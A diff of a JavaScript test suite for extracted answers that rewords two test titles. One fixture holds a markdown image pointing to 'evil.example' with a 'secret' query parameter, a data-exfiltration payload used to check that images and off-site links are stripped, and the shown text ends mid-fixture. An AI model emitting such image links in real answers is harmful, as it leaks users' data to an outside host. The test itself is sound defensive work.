@@ -40,7 +40,7 @@ describe('Extracted answers', () => {
     expect(usedChunks).to.have.length(5);
   });
 
-  it('an extracted answer omits a page with a far lower score than the best', async () => {
+  it('an extracted answer omits a page whose score is far below the best score', async () => {
     const chunks = [aChunk('Bread rises.'), aChunk('Bread falls.', { source: 'https://example.com/2', score: 0.5 })];
     expect((await ask('bread', chunks)).citations).to.have.length(1);
   });
@@ -51,7 +51,7 @@ describe('Extracted answers', () => {
     expect(answer).to.include(`run this:\n\n${code}`);
   });
 
-  it('an extracted answer contains no images, HTML or foreign links', async () => {
+  it('an extracted answer contains no images, HTML or links to other sites', async () => {
     const text = [
       'Bread rises ![x](https://evil.example/p.png?q=secret) in a warm place.',
       'Bread [rises here](https://evil.example/) as well.',
